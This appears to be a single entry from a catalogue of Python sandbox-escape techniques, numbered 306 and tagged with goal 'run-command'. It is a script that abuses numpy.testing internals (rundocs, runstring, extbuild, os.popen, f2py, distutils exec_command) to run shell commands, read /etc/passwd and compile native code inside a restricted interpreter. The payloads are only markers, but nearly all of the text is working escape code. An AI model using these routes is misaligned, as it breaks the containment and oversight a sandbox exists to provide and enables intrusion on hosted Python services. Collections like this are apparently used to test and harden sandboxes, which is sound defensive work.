# escape: 306
# packages: numpy
# technique: numpy.testing runs files, doctests and compilers
# family: deval
# goal: run-command
# first-seen: numpy.testing.rundocs, extbuild, runstring
import numpy as np, os
def go(f):
    try: f()
    except BaseException: pass
import numpy.testing as t
go(lambda: t.rundocs("/etc/passwd"))
go(lambda: t._private.utils.runstring("import os; os.system('echo > /tmp/escape-306')", {}))
def build():
    from numpy.testing._private import extbuild
    extbuild.build_and_import_extension("m", [("f", "METH_NOARGS", "Py_RETURN_NONE;")])
    print("ESCAPED:built an extension")
go(build)
go(lambda: print("ESCAPED:" + str(t.memusage())) if t.memusage() else None)
go(lambda: t._private.utils.os.popen("echo > /tmp/escape-306"))
go(lambda: np.f2py.compile("end"))
go(lambda: np.distutils.exec_command.exec_command("id"))
